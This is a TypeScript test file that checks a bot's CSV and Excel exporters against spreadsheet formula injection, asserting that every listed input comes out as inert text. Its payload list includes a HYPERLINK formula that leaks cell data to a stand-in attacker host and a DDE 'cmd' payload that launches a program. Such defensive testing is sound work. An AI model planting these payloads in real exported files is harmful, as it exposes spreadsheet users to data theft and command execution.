/** What leaves as a table is data: a spreadsheet must not take any of it for a formula. */
import { unzipSync } from 'fflate'
import { describe, expect, test } from 'vitest'
import { writeCsv } from '#bot/tables/write-csv.ts'
import { writeXlsx } from '#bot/tables/write-xlsx.ts'
import type { Cell } from '#views/cell.ts'
import { asText, asTyped, isFormula } from '#views/formula.ts'

/** How attacks begin: https://owasp.org/www-community/attacks/CSV_Injection */
const attacks = [
  '=1+1',
  '=HYPERLINK("https://evil.example?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '+86 138 0013 8000',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=1,2;=3',
  '"=1"',
] as const

async function* once(cells: readonly Cell[]) {
  yield cells
}
async function bytesOf(content: AsyncIterable<Uint8Array>): Promise<Uint8Array> {
  const parts: Uint8Array[] = []
  for await (const part of content) parts.push(part)
  return Buffer.concat(parts)
}

/** The cells as a spreadsheet cuts them, by comma or by semicolon, quotes taken off. */
const cutBy = (line: string, separator: string): string[] =>
  [...line.matchAll(new RegExp(`(?:^|${separator})(?:"((?:[^"]|"")*)"|([^"${separator}]*))`, 'g'))].map(
    ([, quoted, bare]) => (quoted ?? bare ?? '').replaceAll('""', '"'),
  )

describe.each(attacks)('%j', (attack) => {
  test('is text in a CSV file, as a cell and as a heading, whatever cuts its cells', async () => {
    const text = async (header: string, cells: readonly string[]) =>
      new TextDecoder().decode(await bytesOf(writeCsv([header], once(cells))))
    const heading = (await text(attack, [])).replace(/\r\n\r\n$/, '')
    const cell = (await text('h', [attack])).replace(/^h\r\n/, '').replace(/\r\n$/, '')
    expect(heading).toBe(cell)
    for (const separator of [',', ';'])
      for (const one of cutBy(cell, separator)) expect(isFormula(one), one).toBe(false)
    expect(cutBy(cell, ',')).toEqual([isFormula(attack) ? `'${attack}` : attack])
  })

  test('is text in a workbook, and stays so when somebody edits it', async () => {
    const files = unzipSync(await bytesOf(writeXlsx('Sheet', ['a'], once([attack]))))
    const sheet = new TextDecoder().decode(files['xl/worksheets/sheet1.xml'])
    const cell = /<c r="A2"[^>]*>.*?<\/c>/s.exec(sheet)?.[0] ?? ''
    expect(cell).toContain('t="inlineStr"')
    expect(sheet).not.toMatch(/<f[ >]/)
    // Style 4 says quotePrefix.
    expect(cell.includes('s="4"')).toBe(isFormula(attack))
    const styles = new TextDecoder().decode(files['xl/styles.xml'])
    expect([...styles.matchAll(/<cellXfs.*<\/cellXfs>/gs)][0]?.[0].match(/<xf[^>]*>/g)?.[4]).toContain(
      'quotePrefix="1"',
    )
  })

  test('comes back as it was typed', () => expect(asTyped(asText(attack))).toBe(attack))
})
